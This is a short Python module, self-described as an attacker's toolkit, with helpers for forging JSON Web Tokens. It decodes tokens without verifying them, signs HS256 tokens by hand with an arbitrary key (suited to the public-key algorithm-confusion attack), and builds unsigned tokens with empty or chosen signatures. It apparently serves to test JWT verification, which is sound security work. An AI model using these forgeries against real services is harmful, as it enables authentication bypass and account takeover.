"""An attacker's toolkit: build JWTs by hand, signed or not, with any header."""

from __future__ import annotations

import base64
import hashlib
import hmac
import json

import jwt


def b64(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


def claims_of(token: str) -> dict:
    return jwt.decode(token, options={"verify_signature": False})


def header_of(token: str) -> dict:
    return jwt.get_unverified_header(token)


def hs256(header: dict, claims: dict, key: bytes) -> str:
    """Sign with HMAC-SHA256 by hand (PyJWT refuses PEM public keys as secrets)."""
    signing_input = (
        f"{b64(json.dumps(header).encode())}.{b64(json.dumps(claims).encode())}"
    )
    signature = hmac.new(key, signing_input.encode(), hashlib.sha256).digest()
    return f"{signing_input}.{b64(signature)}"


def unsigned(header: dict, claims: dict, signature: str = "") -> str:
    return f"{_segments(header, claims)}.{signature}"


def _segments(header: dict, claims: dict) -> str:
    return f"{b64(json.dumps(header).encode())}.{b64(json.dumps(claims).encode())}"
